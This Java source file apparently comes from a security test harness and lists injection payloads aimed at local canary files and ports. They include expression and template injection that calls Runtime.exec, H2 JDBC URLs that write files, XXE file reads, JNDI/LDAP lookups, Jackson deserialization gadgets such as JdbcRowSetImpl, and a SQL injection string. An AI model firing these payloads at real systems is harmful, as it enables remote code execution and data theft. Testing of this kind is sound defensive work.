package dev.tandem.system.attack;

import java.util.List;

/** Texts that do something visible wherever they are taken for more than text. */
final class Payloads {

    private final Canaries canaries;

    Payloads(Canaries canaries) {
        this.canaries = canaries;
    }

    /** @return expressions, templates and look-ups in the languages that are on the class path, and in some that are not */
    List<String> texts() {
        return List.of(
                "${7919*104729}", "#{7919*104729}", "a ${7919*104729} b #{7919*104729}", "${7919*104729}\u0000", "\uff04{7919*104729}${7919*104729}",
                writingAFile(), deletingAFile(), runningAProgram(), readingAFile(),
                "#{" + writingAFile().substring(2),
                "${execution.processEngine.processEngineConfiguration.expressionManager.createExpression('${7919*104729}').getValue(execution)}",
                "${classify.getClass().getClassLoader().loadClass('java.io.File')}",
                "${S('<x>829</x>').unwrap().getClass()}${7919*104729}",
                "#{T(java.lang.Runtime).getRuntime().exec('touch %s')}".formatted(canaries.written()),
                "= 7919*104729", "{{7919*104729}}", "<%= 7919*104729 %>", "[[${7919*104729}]]", "<#assign x=7919*104729>${x?c}",
                "${jndi:ldap://127.0.0.1:%d/x}".formatted(canaries.port()), "http://127.0.0.1:%d/x".formatted(canaries.port()),
                "' OR '1'='1");
    }

    /** A data source whose address has a statement that is run when somebody connects, as issue 24 tells. */
    String writingAFile() {
        return "${JSON('{\"url\":\"%s\"}').mapTo('org.springframework.jdbc.datasource.DriverManagerDataSource').getConnection()}".formatted(urlThatWrites("\\'"));
    }

    String deletingAFile() {
        return "${JSON('\"%s\"').mapTo('java.io.File').delete()}".formatted(canaries.kept());
    }

    private String runningAProgram() {
        return "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('touch %s')}".formatted(canaries.written());
    }

    private String readingAFile() {
        return "${XML('<!DOCTYPE x [<!ENTITY e SYSTEM \"%s\">]><x>&e;</x>').textContent()}".formatted(canaries.kept().toUri());
    }

    /** @return a document that asks its reader for the file */
    String externalEntity() {
        return "<!DOCTYPE x [<!ENTITY e SYSTEM \"%s\">]><x>&e;</x>".formatted(canaries.kept().toUri());
    }

    /** @param quote as it must be written there */
    String urlThatWrites(String quote) {
        return "jdbc:h2:mem:canary;INIT=CALL FILE_WRITE(" + quote + "x" + quote + "," + quote + canaries.written() + quote + ")";
    }

    /** @return objects as JSON, by class, that do something when they are made or when their getters are called */
    List<TypedJson> objects() {
        return List.of(
                new TypedJson("org.springframework.jdbc.datasource.DriverManagerDataSource", "{\"url\":\"%s\"}".formatted(urlThatWrites("'"))),
                new TypedJson("java.io.FileOutputStream", "\"%s\"".formatted(canaries.written())),
                new TypedJson("java.io.FileWriter", "\"%s\"".formatted(canaries.written())),
                new TypedJson("java.io.File", "\"%s\"".formatted(canaries.kept())),
                new TypedJson("java.util.ArrayList<org.h2.jdbcx.JdbcDataSource>", "[{\"url\":\"%s\"}]".formatted(urlThatWrites("'"))),
                new TypedJson("java.util.HashMap<java.lang.String,org.h2.jdbcx.JdbcDataSource>", "{\"a\":{\"url\":\"%s\"}}".formatted(urlThatWrites("'"))),
                new TypedJson("org.h2.jdbcx.JdbcDataSource[]", "[{\"url\":\"%s\"}]".formatted(urlThatWrites("'"))),
                new TypedJson("org.springframework.context.support.FileSystemXmlApplicationContext", "\"http://127.0.0.1:%d/x.xml\"".formatted(canaries.port())),
                new TypedJson("com.zaxxer.hikari.HikariDataSource", "{\"jdbcUrl\":\"%s\"}".formatted(urlThatWrites("'"))),
                new TypedJson("com.sun.rowset.JdbcRowSetImpl", "{\"dataSourceName\":\"ldap://127.0.0.1:%d/x\",\"autoCommit\":true}".formatted(canaries.port())),
                new TypedJson("no.such.Type", "{}"));
    }

    /**
     * An object as it would be stored.
     *
     * @param type  name of a class
     * @param value JSON that Jackson would make it of
     */
    record TypedJson(String type, String value) {}
}
